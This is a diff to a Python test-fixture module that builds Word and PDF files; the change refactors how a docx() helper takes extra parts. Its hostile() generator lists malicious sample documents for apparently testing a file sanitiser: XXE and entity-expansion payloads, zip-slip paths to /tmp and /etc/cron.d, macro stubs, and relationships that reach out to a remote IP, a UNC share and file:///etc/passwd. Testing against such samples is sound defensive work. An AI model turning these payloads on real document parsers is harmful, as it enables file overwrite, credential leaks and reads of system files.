@@ -4,7 +4,8 @@ import io
 import struct
 import zipfile
 import zlib
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
+from typing import Any
 
 import pikepdf
 
@@ -47,14 +48,18 @@ def document(*paragraphs: str, before: str = "") -> str:
 
 
 def docx(
-    body: str | bytes = "", *, types: str = TYPES, method: int = zipfile.ZIP_DEFLATED, **parts: str | bytes
+    body: str | bytes = "",
+    parts: Mapping[str, str | bytes] | None = None,
+    *,
+    types: str = TYPES,
+    method: int = zipfile.ZIP_DEFLATED,
 ) -> bytes:
-    """A Word file; ``parts`` are further files, their names with ``__`` for a slash and ``_`` for a dot at the end."""
+    """A Word file; ``parts`` are further files by name."""
     made = io.BytesIO()
     with zipfile.ZipFile(made, "w", method) as archive:
         archive.writestr("[Content_Types].xml", types)
         archive.writestr("word/document.xml", body or document(paragraph("Gentile Anna,")))
-        for name, content in parts.items():
+        for name, content in (parts or {}).items():
             archive.writestr(name, content)
     return made.getvalue()
 
@@ -68,7 +73,7 @@ def relations(kind: str, target: str) -> dict[str, str]:
     return {"word/_rels/document.xml.rels": xml}
 
 
-def pdf(content: bytes, pages: int = 1, **options: object) -> bytes:
+def pdf(content: bytes, pages: int = 1, **options: Any) -> bytes:
     """A PDF with ``content`` on each page, in Helvetica."""
     made, file = io.BytesIO(), pikepdf.new()
     name = pikepdf.Name
@@ -149,21 +154,25 @@ def hostile() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
     yield "xxe.docx", "damaged", lambda: docx(document(paragraph("&x;"), before=xxe))
     yield "laughs.docx", "damaged", lambda: docx(laughs())
     yield "blow-up.docx", "damaged", lambda: docx(document(paragraph("&x;" * 50_000), before=blow))
-    yield "rels-xxe.docx", "damaged", lambda: docx(**{"_rels/.rels": xxe + "<R>&x;</R>"})
+    yield "rels-xxe.docx", "damaged", lambda: docx(parts={"_rels/.rels": xxe + "<R>&x;</R>"})
     yield "slip.docx", "damaged", lambda: with_entry("../../../tmp/evil")
     yield "slip-windows.docx", "damaged", lambda: with_entry("..\\..\\evil.txt")
     yield "absolute.docx", "damaged", lambda: with_entry("/etc/cron.d/evil")
     yield "symlink.docx", "damaged", lambda: with_entry("word/link", mode=0o120777)
-    yield "macro.docx", "macros", lambda: docx(**{"word/vbaProject.bin": b"Sub AutoOpen()"})
+    yield "macro.docx", "macros", lambda: docx(parts={"word/vbaProject.bin": b"Sub AutoOpen()"})
     yield (
         "macro-type.docx",
         "macros",
         lambda: docx(types=TYPES.replace("wordprocessingml.document.", "ms-word.document.macroEnabled.")),
     )
-    yield "picture.docx", "reaches_out", lambda: docx(**relations("image", "http://198.51.100.1/x.png"))
-    yield "template.docx", "reaches_out", lambda: docx(**relations("attachedTemplate", "https://198.51.100.1/t.dotm"))
-    yield "share.docx", "reaches_out", lambda: docx(**relations("oleObject", "\\\\198.51.100.1\\share\\x"))
-    yield "passwd.docx", "reaches_out", lambda: docx(**relations("subDocument", "file:///etc/passwd"))
+    yield "picture.docx", "reaches_out", lambda: docx(parts=relations("image", "http://198.51.100.1/x.png"))
+    yield (
+        "template.docx",
+        "reaches_out",
+        lambda: docx(parts=relations("attachedTemplate", "https://198.51.100.1/t.dotm")),
+    )
+    yield "share.docx", "reaches_out", lambda: docx(parts=relations("oleObject", "\\\\198.51.100.1\\share\\x"))
+    yield "passwd.docx", "reaches_out", lambda: docx(parts=relations("subDocument", "file:///etc/passwd"))
     yield "locked.docx", "encrypted", lambda: with_entry("word/a.xml", flag=1)
     yield "ole-locked.docx", "encrypted", lambda: ole + "EncryptedPackage".encode("utf-16-le")
     yield "old-word.docx", "not_what_it_says", lambda: ole + b"\0" * 4000
